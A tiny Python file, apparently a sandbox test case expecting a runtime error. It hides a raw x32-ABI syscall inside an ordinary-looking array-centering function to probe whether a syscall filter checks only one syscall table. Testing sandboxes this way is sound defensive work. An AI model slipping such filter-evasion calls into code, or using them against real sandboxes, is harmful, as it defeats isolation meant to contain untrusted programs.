# RTE crash
# attacks: a filter that knows only one table of calls (x32)
# needs: processes
import ctypes


def center(x):
    ctypes.CDLL(None).syscall(0x40000000 + 39)
    return x - x.mean(axis=-1, keepdims=True)
